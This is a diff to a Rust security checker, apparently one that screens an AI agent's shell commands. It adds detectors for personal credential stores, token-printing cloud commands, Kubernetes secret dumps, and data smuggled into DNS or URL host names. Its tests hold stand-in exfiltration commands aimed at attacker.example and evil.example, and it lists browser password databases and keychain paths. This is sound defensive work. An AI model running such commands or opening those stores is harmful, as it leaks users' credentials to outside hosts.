@@ -106,6 +106,42 @@ pub(crate) fn secret_path(p: &str, home: Option<&str>) -> bool {
         })
 }
 
+/// A credential of the user's, not of the project: a secret file outside the workspace
+/// (`~/.npmrc`, `~/.docker/config.json`, `~/.aws`, another process's `/proc/N/environ`).
+/// Printing one puts an account's keys into the conversation. The project's own `.env` stays a
+/// warning; `~/.aws/config` holds no keys; `/proc/self/environ` is what `env` prints.
+pub(crate) fn user_credential(resolved: &str, home: Option<&str>, workspace: &str) -> bool {
+    secret_path(resolved, home)
+        && !paths::is_inside(resolved, workspace)
+        && !resolved.ends_with("/.aws/config")
+        && !resolved.starts_with("/proc/self/")
+        && !resolved.starts_with("/proc/thread-self/")
+}
+
+/// A personal credential store (browser profiles and their password, cookie and key databases,
+/// keychains, keyrings, `pass`'s store): nothing in a coding task opens one.
+pub(crate) fn personal_store_path(resolved: &str) -> bool {
+    const STORES: &[&str] = &[
+        ".config/google-chrome/",
+        ".config/chromium/",
+        ".config/BraveSoftware/",
+        ".config/microsoft-edge/",
+        ".mozilla/firefox/",
+        "Library/Application Support/Google/Chrome/",
+        "Library/Application Support/Firefox/",
+        "Library/Cookies/",
+        "Library/Keychains/",
+        ".local/share/keyrings/",
+        ".password-store/",
+    ];
+    let dir = format!("{}/", resolved.trim_end_matches('/'));
+    STORES.iter().any(|s| dir.contains(s))
+        || matches!(
+            resolved.rsplit('/').next().unwrap_or(resolved),
+            "Login Data" | "logins.json" | "key4.db" | "key3.db" | "cookies.sqlite" | "Web Data"
+        )
+}
+
 fn secret_by_name(p: &str) -> bool {
     if p.starts_with("/proc/") && p.ends_with("/environ") {
         return true;
@@ -251,7 +287,14 @@ pub(crate) fn secret_command(name: &str, args: &[&str]) -> Option<&'static str> 
         {
             "AWS SSM parameters"
         }
-        "aws" if sub(0) == "configure" && matches!(sub(1), "get" | "export-credentials") => {
+        "aws"
+            if sub(0) == "configure"
+                && (sub(1) == "export-credentials"
+                    || sub(1) == "get"
+                        && ["secret", "token", "key"]
+                            .iter()
+                            .any(|k| sub(2).to_ascii_lowercase().contains(k))) =>
+        {
             "AWS credentials"
         }
         "aws" if sub(0) == "sts" && sub(1) == "get-session-token" => "AWS credentials",
@@ -266,9 +309,19 @@ pub(crate) fn secret_command(name: &str, args: &[&str]) -> Option<&'static str> 
         "kubectl" | "oc"
             if sub(0) == "get"
                 && matches!(sub(1), "secret" | "secrets")
-                && args
-                    .iter()
-                    .any(|a| a.starts_with("-o") || a.starts_with("--output")) =>
+                && args.iter().enumerate().any(|(i, a)| {
+                    // The output format: `-o yaml`, `-ojson`, `--output=jsonpath=…`; names
+                    // and the wide table show no data.
+                    let v = match *a {
+                        "-o" | "--output" => args.get(i + 1).copied().unwrap_or(""),
+                        _ => match a.strip_prefix("--output=").or_else(|| a.strip_prefix("-o")) {
+                            Some(v) if a.starts_with("-o") || a.starts_with("--output=") => v,
+                            _ => return false,
+                        },
+                    };
+                    let v = v.trim_start_matches('=');
+                    !v.is_empty() && v != "name" && v != "wide"
+                }) =>
         {
             "Kubernetes secrets"
         }
@@ -330,6 +383,54 @@ pub(crate) fn personal_store(store: &str) -> bool {
             | "LastPass"
             | "secret GPG keys"
             | "the kubeconfig"
+    )
+}
+
+/// A person's own account token (as named by [`secret_command`]): printed, it lands in the
+/// conversation. Captured in `$( )` or piped into a login, it is how the tools are meant to be
+/// used (`docker login --password-stdin`). Secret managers and Kubernetes secrets are the
+/// project's own secrets, read the way `.env` is: they count when sent somewhere.
+pub(crate) fn account_secret(store: &str) -> bool {
+    matches!(
+        store,
+        "the GitHub token"
+            | "the GitLab token"
+            | "a Google access token"
+            | "an Azure access token"
+            | "AWS credentials"
+    )
+}
+
+/// Pipeline ends that show what they are fed (filters and pagers), as opposed to consumers
+/// that take it as input (`docker login --password-stdin`, `kubectl apply -f -`).
+pub(crate) fn prints_its_input(program: &str) -> bool {
+    matches!(
+        program,
+        "jq" | "yq"
+            | "base64"
+            | "cut"
+            | "grep"
+            | "egrep"
+            | "rg"
+            | "head"
+            | "tail"
+            | "awk"
+            | "gawk"
+            | "sed"
+            | "tr"
+            | "xxd"
+            | "od"
+            | "hexdump"
+            | "cat"
+            | "tee"
+            | "sort"
+            | "uniq"
+            | "column"
+            | "less"
+            | "more"
+            | "fold"
+            | "rev"
+            | "strings"
     )
 }
 
@@ -490,6 +591,56 @@ const ISSUERS: &[(&[&str], &[&str])] = &[
     (&["TWILIO"], &["twilio.com"]),
     (&["SENDGRID"], &["sendgrid.com", "sendgrid.net"]),
 ];
+
+/// An account token fetched inline and presented to the service that issued it
+/// (`-H "Authorization: Bearer $(gcloud auth print-access-token)"` to `*.googleapis.com`):
+/// the documented way to call those APIs, not a leak. Every substitution in `word` must be
+/// such a token command, and `dest` must belong to its issuer.
+pub(crate) fn token_to_its_issuer(word: &str, dest: &str) -> bool {
+    const TOKENS: &[(&str, &[&str])] = &[
+        (
+            "gcloud auth print-access-token",
+            &["googleapis.com", "google.com"],
+        ),
+        (
+            "gcloud auth print-identity-token",
+            &["googleapis.com", "google.com", "run.app"],
+        ),
+        (
+            "gcloud auth application-default print-access-token",
+            &["googleapis.com", "google.com"],
+        ),
+        (
+            "gh auth token",
+            &["github.com", "githubusercontent.com", "ghcr.io"],
+        ),
+        (
+            "az account get-access-token --query accessToken -o tsv",
+            &["azure.com", "microsoft.com", "windows.net"],
+        ),
+    ];
+    let host = host_of(dest).unwrap_or_default();
+    let owns = |hosts: &[&str]| {
+        hosts
+            .iter()
+            .any(|h| host == *h || host.ends_with(&format!(".{h}")))
+    };
+    let mut rest = word;
+    let mut seen = false;
+    while let Some(i) = rest.find("$(") {
+        let after = &rest[i + 2..];
+        let Some(j) = after.find(')') else {
+            return false;
+        };
+        let cmd = after[..j].split_whitespace().collect::<Vec<_>>().join(" ");
+        if !TOKENS.iter().any(|(c, hosts)| *c == cmd && owns(hosts)) {
+            return false;
+        }
+        seen = true;
+        rest = &after[j + 1..];
+    }
+    seen && !rest.contains('`')
+}
 
 /// `Some(var)` when `text` presents a credential whose known issuer is not `dest`'s host.
 pub(crate) fn credential_to_stranger(text: &str, dest: &str) -> Option<String> {
@@ -890,10 +1041,12 @@ pub(crate) fn sink(name: &str, args: &[&str], stdin_fed: bool) -> Option<Sink> {
             s.stdin = true;
         }
         "dig" | "nslookup" | "host" | "drill" | "ping" | "resolvectl" => {
-            // Data hidden in a looked-up name only matters with secret or tainted text.
+            // Data hidden in a looked-up name only matters with secret or tainted text (or
+            // with run-time data spliced into it, see `data_in_hostname`). `+short` and
+            // `@server` are dig's options.
             s.dest = args
                 .iter()
-                .find(|a| !a.starts_with('-') && !a.starts_with('@'))
+                .find(|a| !a.starts_with(['-', '@', '+']))
                 .map(|a| (*a).to_owned())?;
             s.inline.push(s.dest.clone());
         }
@@ -1053,6 +1206,60 @@ pub(crate) fn flow_finding(source: &str, sink: &str, dest: &str) -> Finding {
     f
 }
 
+/// Run-time data spliced into a host name under a fixed domain
+/// (`nslookup "$(whoami).x.attacker.example"`, `curl http://$(cat f | base64).evil.example/`):
+/// the name itself carries the data to whoever answers for that domain, and what the data is
+/// cannot be seen. Name lookups count any expansion (`dig $DATA.evil.example`); URLs only a
+/// command substitution (`https://$BUCKET.s3.amazonaws.com` is routine).
+pub(crate) fn data_in_hostname(name: &str, dest: &str) -> bool {
+    let lookup = matches!(
+        name,
+        "dig" | "nslookup" | "host" | "drill" | "ping" | "resolvectl"
+    );
+    let s = dest.split_once("://").map_or(dest, |(_, rest)| rest);
+    let Some(first) = s.find(['$', '`']) else {
+        return false;
+    };
+    // The expansion must sit in the host, not in the path (`…/$(x).tar.gz`).
+    if s[..first].contains(['/', '@']) && !s[..first].ends_with('@') {
+        return false;
+    }
+    let substituted = s.contains("$(") || s.contains('`');
+    if !(lookup || substituted) {
+        return false;
+    }
+    // The literal tail after the last expansion: `.x.attacker.example`.
+    let end = s
+        .rfind([')', '`', '}'])
+        .map(|i| i + 1)
+        .or_else(|| {
+            let d = s.rfind('$')?;
+            let n = s[d + 1..]
+                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+                .unwrap_or(s.len() - d - 1);
+            Some(d + 1 + n)
+        })
+        .unwrap_or(s.len());
+    let tail = &s[end..];
+    let host = tail.split(['/', ':', '?', '#']).next().unwrap_or("");
+    let host = host.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '-');
+    let Some(domain) = host.strip_prefix('.') else {
+        return false;
+    };
+    let labels: Vec<&str> = domain.split('.').collect();
+    labels.len() >= 2
+        && labels
+            .iter()
+            .all(|l| !l.is_empty() && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'))
+        && labels
+            .last()
+            .is_some_and(|tld| tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic()))
+        && !matches!(
+            *labels.last().unwrap_or(&""),
+            "local" | "internal" | "localhost"
+        )
+}
+
 pub(crate) fn upload_finding(what: &str, sink: &str, dest: &str) -> Finding {
     let mut f = r::EXFIL_UPLOAD.finding(format!(
         "{sink} would send {what} to `{}`, which is not on the egress allowlist.",
@@ -1079,6 +1286,32 @@ fn clip(s: &str, max: usize) -> &str {
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn data_spliced_into_a_host_name() {
+        for (name, dest) in [
+            ("nslookup", "$(whoami)-$(hostname).x.attacker.example"),
+            ("dig", "$DATA.exfil.example.com"),
+            ("dig", "${chunk}.t.example.net"),
+            ("curl", "http://$(cat /etc/hostname).x.evil.example/"),
+            ("curl", "https://`id -u`.evil.example:8443/x"),
+            ("ping", "$(head -c 20 f | xxd -p).example.org"),
+        ] {
+            assert!(data_in_hostname(name, dest), "{name} {dest}");
+        }
+        for (name, dest) in [
+            ("dig", "$DOMAIN"),
+            ("dig", "example.com"),
+            ("curl", "https://$BUCKET.s3.amazonaws.com/key"),
+            ("curl", "http://$(minikube ip):8080/"),
+            ("curl", "https://example.com/dl/$(uname -m).tar.gz"),
+            ("curl", "http://${SVC}.default.svc.cluster.local/health"),
+            ("nslookup", "$(hostname)"),
+            ("dig", "${NAME}.internal"),
+        ] {
+            assert!(!data_in_hostname(name, dest), "{name} {dest}");
+        }
+    }
+
     use super::*;
 
     #[test]
